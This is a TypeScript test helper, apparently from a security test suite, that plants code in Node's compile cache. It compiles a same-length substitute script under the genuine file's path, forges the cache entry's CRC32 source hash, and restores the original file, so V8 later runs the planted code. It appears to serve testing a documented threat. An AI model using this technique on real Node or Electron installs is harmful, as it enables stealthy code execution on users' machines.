import { spawnSync, type SpawnSyncReturns } from 'node:child_process'
import { readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { crc32 } from 'node:zlib'

/**
 * What a clerk does to plant code through NODE_COMPILE_CACHE (docs/security.md, "Node's compile cache"): compile a
 * script of their own, exactly as long as the genuine one, under the genuine one's path (the entry's key is the path),
 * then write the genuine source's CRC32 into the entry's header (magic, code size, cache size, code hash, cache hash)
 * and put the genuine file back. V8 checks only the source's length. `run` starts the program that loads `script`
 * with the environment given (Node here, Electron in the real tier) and answers when it has finished.
 */
export function plantCompileCache(
  script: string,
  cacheDir: string,
  planted: string,
  run: (env: Record<string, string>) => SpawnSyncReturns<string>,
): { genuine: string; evil: string } {
  const genuine = readFileSync(script, 'utf8')
  const evil = `${planted}/*${'x'.repeat(Math.max(0, genuine.length - planted.length - 4))}*/`
  if (Buffer.byteLength(evil) !== Buffer.byteLength(genuine)) throw new Error('the planted script must be as long as the genuine one (ASCII only)')
  writeFileSync(script, evil)
  try {
    run({ NODE_COMPILE_CACHE: cacheDir })
  } finally {
    writeFileSync(script, genuine)
  }
  const entry = entriesIn(cacheDir).find((file) => readFileSync(file).readUInt32LE(4) === Buffer.byteLength(evil))
  if (!entry) throw new Error(`no compile-cache entry for the planted script in ${cacheDir}: ${entriesIn(cacheDir).join(', ') || 'empty'}`)
  const bytes = readFileSync(entry)
  bytes.writeUInt32LE(crc32(Buffer.from(genuine)) >>> 0, 12)
  writeFileSync(entry, bytes)
  return { genuine, evil }
}

/** Every file under the cache folder (Node keeps one sub-folder per Node version, arch and V8 flags). */
export function entriesIn(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true }).flatMap((d) => (d.isDirectory() ? entriesIn(join(dir, d.name)) : statSync(join(dir, d.name)).isFile() ? [join(dir, d.name)] : []))
}

/** A program run with the user's environment plus `env`, NODE_OPTIONS left out (the fuse removes it anyway). */
export function runWith(command: string, args: string[], env: Record<string, string>, timeout = 20_000): SpawnSyncReturns<string> {
  const all: Record<string, string | undefined> = { ...process.env, ...env }
  delete all.NODE_OPTIONS
  return spawnSync(command, args, { env: all, encoding: 'utf8', timeout })
}
